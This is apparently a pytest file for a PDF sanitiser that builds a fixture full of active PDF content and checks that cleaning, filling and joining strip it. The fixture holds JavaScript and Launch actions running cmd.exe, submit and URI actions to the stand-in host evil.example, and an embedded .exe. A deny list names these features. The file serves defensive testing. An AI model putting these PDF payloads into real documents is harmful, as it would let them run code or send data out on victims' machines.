from __future__ import annotations

import io
import re
import zlib

import pytest
from PIL import Image, ImageChops

from tests.pdf.samples import agreement, field, one_page, stream
from wagtail_cohorts.pdf import ACTIVE_WORDS, clean, compile, fill, inspect, join, page_image

FORBIDDEN = (
    b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR",
    b"/GoToE", b"/URI", b"/EmbeddedFile", b"/EmbeddedFiles", b"/Filespec", b"/RichMedia", b"/XFA", b"/AcroForm",
    b"/Annots", b"/Names", b"/FFilter", b"/Encrypt", b"/Metadata", b"/Sig", b"/Rendition", b"/Movie", b"/Named",
    b"cmd.exe", b"evil.example",
)  # fmt: skip


def everything_active() -> bytes:
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AA<</WC 7 0 R>>/URI<</Base(http://evil.example)>>"
        b"/Names<</JavaScript<</Names[(x) 6 0 R]>>/EmbeddedFiles<</Names[(a) 8 0 R]>>/Renditions<<>>>>"
        b"/AcroForm<</Fields[9 0 R]/XFA[(t) 10 0 R]/NeedAppearances true>>/Metadata 10 0 R/Collection<<>>"
        b"/Outlines<</First 11 0 R>>/AF[8 0 R]/Perms<</DocMDP 12 0 R>>"
    )
    page = (
        b"/MediaBox[0 0 595 842]/AA<</O<</S/Launch/F(cmd.exe)>>>>/Metadata 10 0 R/Group<</S/Transparency/X 6 0 R>>"
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example)>>>>"
        b"<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(other.pdf)>>>>"
        b"<</Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>/AA<</D<</S/ImportData>>>>>>"
        b"<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>><</Subtype/Movie/Rect[0 0 9 9]>>"
        b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 8 0 R>><</Subtype/Widget/FT/Sig/V 12 0 R/Rect[0 0 9 9]>>]"
        b"/Resources<</XObject<</X 13 0 R/P 14 0 R>>/Font<</F1 5 0 R>>>>"
    )
    more = [
        b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>",
        b"<</S/Named/N/Print/Next<</S/Launch/F(cmd.exe)>>>>",
        b"<</Type/Filespec/F(a.exe)/EF<</F 10 0 R>>>>",
        b"<</FT/Tx/T(name)/AA<</K 6 0 R>>>>",
        stream(b"<script/>", b"/Type/EmbeddedFile"),
        b"<</Title(One)/A 6 0 R/Parent 1 0 R>>",
        b"<</Type/Sig/Contents<00>/ByteRange[0 1 2 3]>>",
        stream(b"0 g", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(http://evil.example)/FFilter/X/AA 7 0 R"),
        stream(b"showpage", b"/Type/XObject/Subtype/PS"),
    ]
    return one_page(catalog=catalog, page=page, more=more)


def plain_text(data: bytes) -> bytes:
    """The file with its compressed streams opened after it."""
    opened = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        try:
            opened.append(zlib.decompressobj().decompress(match[1]))
        except zlib.error:
            continue
    return b"\n".join(opened)


def test_inspection_lists_what_is_active() -> None:
    assert set(inspect(everything_active()).active) >= {
        "javascript", "open_action", "additional_actions", "launch", "links", "remote_documents", "submit_form",
        "import_data", "embedded_files", "rich_media", "xfa", "external_streams", "other_actions",
    }  # fmt: skip


def test_everything_that_is_removed_can_be_said_in_words() -> None:
    assert set(clean(everything_active()).removed) <= set(ACTIVE_WORDS)


@pytest.mark.parametrize("name", FORBIDDEN)
def test_nothing_active_is_left_after_cleaning(name: bytes) -> None:
    assert name in everything_active() or name in (b"/Encrypt", b"/Rendition", b"/GoToE")
    assert name not in plain_text(clean(everything_active()).data)


def test_nothing_active_is_left_after_filling_or_joining() -> None:
    template = compile(everything_active(), [field()])
    for data in (fill(template, {"name": "Thandi"}, {}), join([everything_active(), everything_active()])):
        assert not [name for name in FORBIDDEN if name in plain_text(data)]
        assert inspect(data).active == ()


def test_a_clean_copy_looks_the_same() -> None:
    data = agreement(2)
    for page in (1, 2):
        before, after = (page_image(each, page, 600, format="png") for each in (data, clean(data).data))
        assert before == after


def test_cleaning_is_deterministic_and_holds_no_dates() -> None:
    first, second = clean(agreement(3)), clean(agreement(3))
    assert first == second
    assert b"/CreationDate" not in first.data and b"/ModDate" not in first.data
    assert first.inspection == inspect(first.data)
    assert first.data.count(b"%%EOF") == 1


def test_the_title_is_kept() -> None:
    title = "Ṱhe agreement"
    encoded = b"<FEFF" + title.encode("utf-16-be").hex().upper().encode() + b">"
    data = one_page(more=[b"<</Title %s/Author(Somebody)>>" % encoded]).replace(b"/Root", b"/Info 6 0 R/Root")
    cleaned = clean(data).data
    assert encoded in cleaned and b"Somebody" not in cleaned


def test_what_a_form_field_shows_is_kept_without_the_field() -> None:
    look = stream(b"1 0 0 rg 0 0 50 20 re f", b"/BBox[0 0 50 20]")
    entries = b"/Rect[100 700 200 740]/AP<</N 6 0 R>>"
    widget, stamp = (
        one_page(page=b"/MediaBox[0 0 595 842]/Annots[<</Subtype/%s%s>>]" % (kind, entries), more=[look])
        for kind in (b"Widget/FT/Tx/T(a)", b"Stamp")
    )
    assert clean(widget).removed == ("form",) and clean(stamp).removed == ("annotations",)
    assert _picture(clean(widget).data).getpixel((150, 842 - 720)) == (255, 0, 0)
    data, cleaned = stamp, clean(stamp)
    before, after = (_picture(each) for each in (data, cleaned.data))
    assert after.getpixel((150, 842 - 720)) == (255, 0, 0)
    assert ImageChops.difference(before, after).getbbox() is None


def test_a_chosen_state_is_shown_and_hidden_annotations_are_not() -> None:
    look = stream(b"1 0 0 rg 0 0 50 20 re f", b"/BBox[0 0 50 20]/Matrix[1 0 0 1 10 10]")
    entries = b"/Rect[100 700 200 740]/AP<</N<</On 6 0 R>>>>/AS/On"
    shown = one_page(page=b"/MediaBox[0 0 595 842]/Annots[<</Subtype/Widget%s>>]" % entries, more=[look])
    hidden = one_page(page=b"/MediaBox[0 0 595 842]/Annots[<</Subtype/Widget%s/F 2>>]" % entries, more=[look])
    assert _picture(clean(shown).data).getpixel((105, 842 - 738)) == (255, 0, 0)
    assert _picture(clean(hidden).data).getpixel((150, 842 - 720)) == (255, 255, 255)


def test_names_outside_ascii_still_find_their_resources() -> None:
    for name in ("Schrift_ü".encode(), "字体".encode("gbk"), b"F\xe9"):
        page = b"/MediaBox[0 0 200 200]/Resources<</XObject<</%s 6 0 R>>>>" % name
        form = stream(b"1 0 0 rg 0 0 200 200 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]")
        data = one_page(page=page, content=b"/%s Do" % name, more=[form])
        assert _picture(clean(data).data, 200).getpixel((100, 100)) == (255, 0, 0)


def _picture(data: bytes, width: int = 595) -> Image.Image:
    return Image.open(io.BytesIO(page_image(data, 1, width, format="png"))).convert("RGB")
